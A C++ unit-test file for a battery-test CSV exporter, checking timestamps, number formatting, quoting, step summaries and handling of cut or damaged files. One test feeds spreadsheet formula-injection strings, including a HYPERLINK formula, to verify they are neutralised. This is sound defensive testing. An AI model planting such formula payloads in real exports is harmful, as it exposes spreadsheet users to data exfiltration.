// CSV export of test files: every sample becomes one row holding exactly its values, the
// step summary lists the started steps, and a cut or damaged file exports its whole
// records and says where it stopped.
#include "core/records/csv_export.h"
#include "core/records/csv_rows.h"
#include "support/long_test_file.h"
#include "support/temp_home.h"

#include <algorithm>
#include <charconv>
#include <cmath>
#include <cstdlib>
#include <cstring>
#include <ctime>
#include <fstream>
#include <gtest/gtest.h>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

namespace kapsorel::test {
namespace {

std::vector<std::string> splitLines(const std::string& text)
{
    std::vector<std::string> lines;
    std::stringstream in(text);
    std::string line;
    while (std::getline(in, line))
        lines.push_back(line);
    return lines;
}

std::vector<std::string> splitFields(const std::string& line)
{
    std::vector<std::string> fields;
    std::stringstream in(line);
    std::string f;
    while (std::getline(in, f, ','))
        fields.push_back(f);
    if (!line.empty() && line.back() == ',')
        fields.emplace_back();
    return fields;
}

double asNumber(const std::string& s)
{
    double v = NAN;
    const auto r = std::from_chars(s.data(), s.data() + s.size(), v);
    EXPECT_EQ(r.ec, std::errc{}) << s;
    EXPECT_EQ(r.ptr, s.data() + s.size()) << s;
    return v;
}

// A time zone for the process while a test runs.
class ZoneScope {
  public:
    explicit ZoneScope(const char* zone)
    {
        if (const char* old = std::getenv("TZ"))
            old_ = old;
        setenv("TZ", zone, 1);
        tzset();
    }
    ~ZoneScope()
    {
        if (old_)
            setenv("TZ", old_->c_str(), 1);
        else
            unsetenv("TZ");
        tzset();
    }
    ZoneScope(const ZoneScope&) = delete;
    ZoneScope& operator=(const ZoneScope&) = delete;

  private:
    std::optional<std::string> old_;
};

// Values are written with four decimals: each within half the last one (and a float's
// own rounding) of the recorded value.
constexpr double kHalfStep = 0.00005 + 1e-6;

constexpr const char* kCentralEurope = "CET-1CEST,M3.5.0,M10.5.0/3";

TEST(CsvDateTime, IsLocalTimeWithTheOffsetInForceThen)
{
    struct Case {
        const char* zone;
        LocalDateTime local;
        const char* text;
    };
    const std::vector<Case> cases{
        {kCentralEurope, {2024, 3, 5, 7, 9, 0, 250}, "2024-03-05T07:09:00.250+01:00"},
        {kCentralEurope, {2024, 7, 1, 12, 30, 15, 0}, "2024-07-01T12:30:15.000+02:00"},
        {kCentralEurope, {2024, 3, 31, 3, 0, 0, 0}, "2024-03-31T03:00:00.000+02:00"}, // first summer hour
        {"UTC0", {2024, 7, 1, 0, 0, 0, 0}, "2024-07-01T00:00:00.000+00:00"},
        {"EST5EDT,M3.2.0,M11.1.0", {2023, 12, 24, 23, 59, 59, 999}, "2023-12-24T23:59:59.999-05:00"},
        {"IST-5:30", {2024, 1, 2, 3, 4, 5, 6}, "2024-01-02T03:04:05.006+05:30"},
    };
    for (const auto& c : cases) {
        ZoneScope zone(c.zone);
        IsoDateTime iso;
        std::string out;
        iso.append(out, toDayTime(c.local));
        EXPECT_EQ(out, c.text) << c.zone;
    }
}

TEST(CsvDateTime, OffsetFollowsTheClockChangeWithinOneExport)
{
    ZoneScope zone(kCentralEurope);
    IsoDateTime iso;
    std::string before;
    std::string after;
    iso.append(before, toDayTime(LocalDateTime{2024, 3, 31, 1, 59, 0, 0}));
    iso.append(after, toDayTime(LocalDateTime{2024, 3, 31, 3, 1, 0, 0}));
    EXPECT_EQ(before, "2024-03-31T01:59:00.000+01:00");
    EXPECT_EQ(after, "2024-03-31T03:01:00.000+02:00");
}

TEST(CsvSampleRow, ValuesWithFourDecimalsAndNoTrailingZeros)
{
    ZoneScope zone("UTC0");
    const DayTime start = toDayTime(LocalDateTime{2024, 3, 5, 7, 0, 0, 0});
    SampleRecord s;
    s.time = start + 90.5 / kSecondsPerDay;
    s.step = 2;
    s.voltage = 12.5f;
    s.current = -0.0125f;
    s.capacity = 1.23456f;
    s.temperature = 3.0f;
    s.cells = {0.00004f, -0.00004f, -1.99996f, 1e12f, NAN, 0.5f};
    struct Case {
        bool withCapacity;
        const char* row;
    };
    const std::string cells = "0,0,-2,1e+12,nan,0.5,0,0,0,0,0,0,0,0,0,0,0,0,0,0";
    const std::vector<Case> cases{
        {true, "90.500,2024-03-05T07:01:30.500+00:00,1,3,12.5,-0.0125,1.2346,3,"},
        {false, "90.500,2024-03-05T07:01:30.500+00:00,1,3,12.5,-0.0125,,3,"},
    };
    for (const auto& c : cases) {
        CsvSampleRows rows(start, c.withCapacity);
        std::string out;
        rows.append(out, s, 0);
        EXPECT_EQ(out, c.row + cells + "\n");
    }
}

// The text a value must get: rounded half away from zero to 0.0001, no trailing zeros.
std::string fourDecimals(float v)
{
    const long long n = std::llround(static_cast<double>(v) * 10000.0);
    const long long whole = std::llabs(n) / 10000;
    const long long frac = std::llabs(n) % 10000;
    std::string text = (n < 0 ? "-" : "") + std::to_string(whole);
    if (frac != 0) {
        std::string digits = std::to_string(frac);
        digits.insert(0, 4 - digits.size(), '0');
        while (digits.back() == '0')
            digits.pop_back();
        text += "." + digits;
    }
    return text;
}

TEST(CsvSampleRow, EveryFractionAndMagnitudeIsWrittenExactly)
{
    // Every step of 0.0001 from -3 to 3, halves between them, and values up to a million.
    std::vector<float> values;
    for (int k = -30000; k <= 30000; ++k) {
        values.push_back(static_cast<float>(k) / 10000.0f);
        values.push_back((static_cast<float>(k) + 0.5f) / 10000.0f);
    }
    for (float v = 1.0f; v < 1e6f; v = v * 1.37f + 0.00013f)
        values.insert(values.end(), {v, -v});
    while (values.size() % 20 != 0)
        values.push_back(0.0f);

    const DayTime start = 45356.0;
    CsvSampleRows rows(start, true);
    CsvSampleRows sameRows(start, true);
    SampleRecord s;
    s.time = start;
    std::vector<char> line(kMaxCsvLine);
    for (std::size_t at = 0; at < values.size(); at += 20) {
        std::copy_n(values.begin() + static_cast<std::ptrdiff_t>(at), 20, s.cells.begin());
        std::string out;
        rows.append(out, s, 0);
        // Writing into a buffer gives the same line.
        EXPECT_EQ(std::string(line.data(), sameRows.put(line.data(), s, 0)), out);
        const auto f = splitFields(out.substr(0, out.size() - 1));
        ASSERT_EQ(f.size(), 28u);
        for (std::size_t i = 0; i < 20; ++i)
            ASSERT_EQ(f[8 + i], fourDecimals(s.cells[i])) << s.cells[i];
    }
}

TEST(CsvSampleRow, StepCountRisesWhenTheStepChangesAndTimeLosesTheInterruptions)
{
    const DayTime start = 45356.0;
    CsvSampleRows rows(start, true);
    const std::vector<std::pair<std::uint8_t, std::string>> sequence{{0, "1,1"}, {0, "1,1"}, {3, "2,4"},
                                                                     {1, "3,2"}, {3, "4,4"}, {3, "4,4"}};
    for (std::size_t i = 0; i < sequence.size(); ++i) {
        SampleRecord s;
        s.time = start + static_cast<double>(i * 100) / kSecondsPerDay;
        s.step = sequence[i].first;
        std::string out;
        rows.append(out, s, 30);
        const auto f = splitFields(out.substr(0, out.size() - 1));
        EXPECT_EQ(f[2] + "," + f[3], sequence[i].second) << i;
        EXPECT_EQ(f[0], std::to_string(static_cast<long long>(i) * 100 - 30) + ".000") << i;
    }
}

TEST(CsvText, QuotesOnlyWhatNeedsIt)
{
    EXPECT_EQ(csvText("Nabíjení"), "Nabíjení");
    EXPECT_EQ(csvText("a,b"), "\"a,b\"");
    EXPECT_EQ(csvText("řekl \"ok\""), "\"řekl \"\"ok\"\"\"");
    EXPECT_EQ(csvText("dva\nřádky"), "\"dva\nřádky\"");
}

// A text that a spreadsheet would evaluate gets a leading apostrophe and quotes; one that
// only contains such characters further on stays as it is.
TEST(CsvText, TextsThatStartLikeFormulasAreMarkedAsText)
{
    const std::pair<const char*, const char*> cases[] = {
        {"=2*21", "\"'=2*21\""},       {"=HYPERLINK(\"http://x\"&A2)", "\"'=HYPERLINK(\"\"http://x\"\"&A2)\""},
        {"+420 123", "\"'+420 123\""}, {"-5 A", "\"'-5 A\""},
        {"@SUM(A1)", "\"'@SUM(A1)\""}, {"\t=1", "\"'\t=1\""},
        {"\r=1", "\"'\r=1\""},         {"=a,b", "\"'=a,b\""},
        {"a=b-c+d@e", "a=b-c+d@e"},    {"", ""},
    };
    for (const auto& [in, out] : cases)
        EXPECT_EQ(csvText(in), out) << in;
}

// A sample whose time is no date (a damaged record) leaves its time fields empty and is
// counted; its other fields stay.
TEST(CsvSampleRow, ATimeThatIsNoDateIsAMissingValue)
{
    const DayTime start = 45356.0;
    const double times[] = {NAN, INFINITY, -INFINITY, 1e300, -1e300, kEndDayTime, kFirstDayTime - 1.0};
    CsvSampleRows rows(start, true);
    for (std::size_t i = 0; i < std::size(times); ++i) {
        SampleRecord s;
        s.time = times[i];
        s.voltage = 1.5f;
        std::string out;
        rows.append(out, s, 0);
        const auto f = splitFields(out.substr(0, out.size() - 1));
        ASSERT_EQ(f.size(), 28u) << i;
        EXPECT_EQ(f[0], "") << i;
        EXPECT_EQ(f[1], "") << i;
        EXPECT_EQ(f[4], "1.5") << i;
        EXPECT_EQ(rows.missingTimes(), i + 1);
    }
    CsvSampleRows fromBadStart(NAN, true);
    std::string out;
    SampleRecord s;
    s.time = start;
    fromBadStart.append(out, s, 0);
    EXPECT_EQ(out.substr(0, 2), ",,");
    EXPECT_EQ(fromBadStart.missingTimes(), 1u);
}

TEST(CsvPaths, StepsFileLiesBesideTheCsv)
{
    EXPECT_EQ(csvStepsPath("/d/T_1.csv"), std::filesystem::path("/d/T_1_steps.csv"));
    EXPECT_EQ(defaultCsvPath("/d/T_A12_202403050709.tst"), std::filesystem::path("/d/T_A12_202403050709.csv"));
}

std::string expectedHeader()
{
    std::string h = "Test Time / s,Date Time,Step Count / 1,Step Index / 1,Voltage / V,Current / A,"
                    "Charge Capacity / Ah,Temperature T1 / degC";
    for (int c = 1; c <= 20; ++c)
        h += (c < 10 ? ",Cell 0" : ",Cell ") + std::to_string(c) + " Voltage / V";
    return h;
}

class CsvExport : public ::testing::Test {
  protected:
    ZoneScope zone_{kCentralEurope};
    TempHome home_;
};

TEST_F(CsvExport, EverySampleIsOneRowWithExactlyItsValues)
{
    const LongTestSpec spec{.samples = 600, .steps = 3, .secondsApart = 10.0};
    writeLongTestFile(home_ / "t.tst", spec);
    const auto result = exportTestCsv(home_ / "t.tst", home_ / "t.csv");
    ASSERT_TRUE(result.ok()) << result.error();
    EXPECT_TRUE(result->complete()) << result->warning;
    EXPECT_EQ(result->rows, spec.samples);
    EXPECT_EQ(result->version, 4);

    const auto lines = splitLines(home_.readText("t.csv"));
    ASSERT_EQ(lines.size(), spec.samples + 1);
    EXPECT_EQ(lines[0], expectedHeader());
    const BatteryTestHeader header = longTestHeader(spec);
    for (std::size_t i = 0; i < spec.samples; ++i) {
        SCOPED_TRACE(i);
        const SampleRecord s = longTestSample(spec, i);
        const auto f = splitFields(lines[i + 1]);
        ASSERT_EQ(f.size(), 28u);
        EXPECT_DOUBLE_EQ(std::stod(f[0]), static_cast<double>(i) * spec.secondsApart);
        EXPECT_EQ(f[1].substr(0, 11), "2024-03-05T");
        EXPECT_EQ(f[1].substr(f[1].size() - 6), "+01:00");
        EXPECT_EQ(std::stoi(f[2]), s.step + 1); // each step runs once, in order
        EXPECT_EQ(std::stoi(f[3]), s.step + 1);
        EXPECT_NEAR(asNumber(f[4]), s.voltage, kHalfStep);
        EXPECT_NEAR(asNumber(f[5]), s.current, kHalfStep);
        EXPECT_NEAR(asNumber(f[6]), s.capacity, kHalfStep);
        EXPECT_NEAR(asNumber(f[7]), s.temperature, kHalfStep);
        for (int c = 0; c < 20; ++c)
            EXPECT_NEAR(asNumber(f[8 + static_cast<std::size_t>(c)]), s.cells[static_cast<std::size_t>(c)], kHalfStep)
                << c;
    }
    EXPECT_EQ(splitFields(lines[1])[1], "2024-03-05T06:00:00.000+01:00");
    EXPECT_EQ(header.start, spec.start);
}

TEST_F(CsvExport, StepSummaryListsTheStartedStepsWithTheirSamples)
{
    const LongTestSpec spec{.samples = 300, .steps = 3, .secondsApart = 5.0};
    writeLongTestFile(home_ / "t.tst", spec);
    const auto result = exportTestCsv(home_ / "t.tst", home_ / "out.csv");
    ASSERT_TRUE(result.ok()) << result.error();
    EXPECT_EQ(result->stepsFile, home_ / "out_steps.csv");
    EXPECT_EQ(result->steps, 3u);
    const auto lines = splitLines(home_.readText("out_steps.csv"));
    ASSERT_EQ(lines.size(), 4u);
    EXPECT_EQ(lines[0], "Step Index / 1,Step Type,Description,Status,Start Date Time,Voltage / V,Current / A,"
                        "Charge Capacity / Ah,Samples / 1,Interruption / s");
    const std::vector<std::string> statuses{"performed", "performed", "running"};
    std::size_t samples = 0;
    for (std::size_t i = 0; i < 3; ++i) {
        const auto f = splitFields(lines[i + 1]);
        ASSERT_EQ(f.size(), 10u) << lines[i + 1];
        EXPECT_EQ(f[0], std::to_string(i + 1));
        EXPECT_EQ(f[3], statuses[i]);
        EXPECT_EQ(f[9], "0");
        samples += std::stoul(f[8]);
        EXPECT_GT(std::stoul(f[8]), 0u);
    }
    EXPECT_EQ(samples, spec.samples);
}

// A test interrupted after `before` samples and resumed `pause` seconds later in the same
// step, then `after` more samples.
void writeInterruptedTest(const std::filesystem::path& path, std::size_t before, std::size_t after, double pause)
{
    const LongTestSpec spec{.samples = before, .steps = 1, .secondsApart = 1.0};
    writeLongTestFile(path, spec);
    ByteWriter w;
    writeInterruptionMarker(w, InterruptionMarker{2});
    const SampleRecord last = longTestSample(spec, before - 1);
    const DayTime resumeAt = last.time + pause / kSecondsPerDay;
    writeResumeRecord(w, ResumeEntry{resumeAt, 0, last.time, 2});
    for (std::size_t i = 0; i < after; ++i) {
        SampleRecord s = longTestSample(spec, before + i);
        s.time += pause / kSecondsPerDay;
        s.step = 0;
        writeSampleRecord(w, s);
    }
    std::ofstream out(path, std::ios::binary | std::ios::app);
    out.write(reinterpret_cast<const char*>(w.data().data()), static_cast<std::streamsize>(w.size()));
}

TEST_F(CsvExport, TestTimeLeavesOutTheInterruptions)
{
    writeInterruptedTest(home_ / "t.tst", 10, 5, 3600.0);
    const auto result = exportTestCsv(home_ / "t.tst", home_ / "t.csv");
    ASSERT_TRUE(result.ok()) << result.error();
    EXPECT_TRUE(result->complete()) << result->warning;
    const auto lines = splitLines(home_.readText("t.csv"));
    ASSERT_EQ(lines.size(), 16u);
    for (std::size_t i = 0; i < 15; ++i)
        EXPECT_DOUBLE_EQ(std::stod(splitFields(lines[i + 1])[0]), static_cast<double>(i)) << i;
    // The wall clock keeps the hour away.
    EXPECT_EQ(splitFields(lines[11])[1], "2024-03-05T07:00:10.000+01:00");
    const auto steps = splitLines(home_.readText("t_steps.csv"));
    ASSERT_EQ(steps.size(), 2u);
    EXPECT_EQ(splitFields(steps[1])[9], "3600");
    EXPECT_EQ(splitFields(steps[1])[8], "15");
}

TEST_F(CsvExport, CutFileExportsItsWholeRecordsAndSaysWhereItStopped)
{
    const LongTestSpec spec{.samples = 100, .steps = 2};
    writeLongTestFile(home_ / "t.tst", spec);
    const auto size = std::filesystem::file_size(home_ / "t.tst");
    std::filesystem::resize_file(home_ / "t.tst", size - 40);
    const auto result = exportTestCsv(home_ / "t.tst", home_ / "t.csv");
    ASSERT_TRUE(result.ok()) << result.error();
    EXPECT_FALSE(result->complete());
    EXPECT_EQ(result->rows, 99u);
    const std::uint64_t end = size - test_file_layout::kTailSize;
    EXPECT_EQ(result->stoppedAt, end);
    EXPECT_NE(result->warning.find(std::to_string(end)), std::string::npos) << result->warning;
    EXPECT_NE(result->warning.find("neúplným záznamem (65 B)"), std::string::npos) << result->warning;
    EXPECT_EQ(splitLines(home_.readText("t.csv")).size(), 100u);
}

TEST_F(CsvExport, SamplesWhoseTimeIsNoDateAreCountedInTheWarning)
{
    const LongTestSpec spec{.samples = 30, .steps = 1};
    writeLongTestFile(home_ / "t.tst", spec);
    auto bytes = home_.readBytes("t.tst");
    const std::size_t tailStart = test_file_layout::createdSize(1);
    const double bad[] = {NAN, INFINITY, 1e300};
    for (std::size_t k = 0; k < std::size(bad); ++k) {
        const double t = bad[k];
        std::memcpy(bytes.data() + tailStart + (5 + 7 * k) * test_file_layout::kTailSize, &t, sizeof t);
    }
    home_.writeBytes("t.tst", bytes);
    const auto result = exportTestCsv(home_ / "t.tst", home_ / "t.csv");
    ASSERT_TRUE(result.ok()) << result.error();
    EXPECT_FALSE(result->complete());
    EXPECT_EQ(result->rows, 30u);
    EXPECT_EQ(result->missingTimes, 3u);
    EXPECT_NE(result->warning.find("Řádků bez platného času vzorku: 3"), std::string::npos) << result->warning;
    const auto lines = splitLines(home_.readText("t.csv"));
    ASSERT_EQ(lines.size(), 31u);
    EXPECT_EQ(lines[1 + 12].substr(0, 2), ",,");
    EXPECT_NE(lines[1 + 13].substr(0, 2), ",,");
}

TEST_F(CsvExport, RecordOfAStepTheTestLacksIsLeftOutAndNamed)
{
    const LongTestSpec spec{.samples = 50, .steps = 2};
    writeLongTestFile(home_ / "t.tst", spec);
    auto bytes = home_.readBytes("t.tst");
    const std::size_t tailStart = test_file_layout::createdSize(2);
    bytes[tailStart + 20 * test_file_layout::kTailSize + test_file_layout::kTailKindOffset] = 77;
    home_.writeBytes("t.tst", bytes);
    const auto result = exportTestCsv(home_ / "t.tst", home_ / "t.csv");
    ASSERT_TRUE(result.ok()) << result.error();
    EXPECT_EQ(result->rows, 49u);
    EXPECT_EQ(result->skipped, 1u);
    EXPECT_EQ(result->stoppedAt, bytes.size());
    EXPECT_NE(result->warning.find("Vynecháno záznamů: 1"), std::string::npos) << result->warning;
    EXPECT_EQ(splitLines(home_.readText("t.csv")).size(), 50u);
}

TEST_F(CsvExport, FileWithoutAWholeHeadIsRefusedAndNothingWritten)
{
    struct Case {
        const char* name;
        std::vector<std::uint8_t> bytes;
    };
    const std::vector<Case> cases{
        {"empty", {}},
        {"head cut", std::vector<std::uint8_t>(100, 4)},
        {"steps cut",
         [] {
             std::vector<std::uint8_t> b(199 + 145, 0);
             b[0] = 4;
             b[2] = 5; // five steps claimed, one present
             return b;
         }()},
    };
    for (const auto& c : cases) {
        home_.writeBytes("bad.tst", c.bytes);
        const auto result = exportTestCsv(home_ / "bad.tst", home_ / "bad.csv");
        EXPECT_FALSE(result.ok()) << c.name;
        EXPECT_FALSE(std::filesystem::exists(home_ / "bad.csv")) << c.name;
        EXPECT_FALSE(std::filesystem::exists(home_ / "bad_steps.csv")) << c.name;
        EXPECT_EQ(namesIn(home_.path()), std::vector<std::string>{"bad.tst"}) << c.name; // no temporary either
    }
    const auto missing = exportTestCsv(home_ / "none.tst", home_ / "none.csv");
    ASSERT_FALSE(missing.ok());
    EXPECT_NE(missing.error().find("neexistuje"), std::string::npos);
}

TEST_F(CsvExport, ProgressRisesToOneOverLongFiles)
{
    const LongTestSpec spec{.samples = 50'000, .steps = 4};
    writeLongTestFile(home_ / "t.tst", spec);
    std::vector<double> seen;
    const auto result = exportTestCsv(home_ / "t.tst", home_ / "t.csv", [&](double f) { seen.push_back(f); });
    ASSERT_TRUE(result.ok()) << result.error();
    ASSERT_GE(seen.size(), 3u);
    for (std::size_t i = 1; i < seen.size(); ++i)
        EXPECT_GT(seen[i], seen[i - 1]);
    EXPECT_GT(seen.front(), 0.0);
    EXPECT_EQ(seen.back(), 1.0);
}

TEST_F(CsvExport, CancelledExportKeepsTheOlderExport)
{
    const LongTestSpec spec{.samples = 50'000};
    writeLongTestFile(home_ / "t.tst", spec);
    home_.writeText("t.csv", "older\n");
    std::atomic<bool> cancel{false};
    const auto result = exportTestCsv(
        home_ / "t.tst", home_ / "t.csv", [&](double f) { cancel = f < 1.0; }, &cancel);
    ASSERT_FALSE(result.ok());
    EXPECT_EQ(result.error(), csv_export_messages::kCancelled);
    EXPECT_EQ(home_.readText("t.csv"), "older\n");
    EXPECT_FALSE(std::filesystem::exists(home_ / "t_steps.csv"));
    EXPECT_EQ(namesIn(home_.path()), (std::vector<std::string>{"t.csv", "t.tst"})); // no temporary either
}

TEST_F(CsvExport, UnwritableTargetFailsWithItsName)
{
    const LongTestSpec spec{.samples = 10};
    writeLongTestFile(home_ / "t.tst", spec);
    const auto result = exportTestCsv(home_ / "t.tst", home_ / "no" / "such" / "t.csv");
    ASSERT_FALSE(result.ok());
    EXPECT_TRUE(result.error().starts_with(csv_export_messages::kCannotWrite)) << result.error();
}

} // namespace
} // namespace kapsorel::test
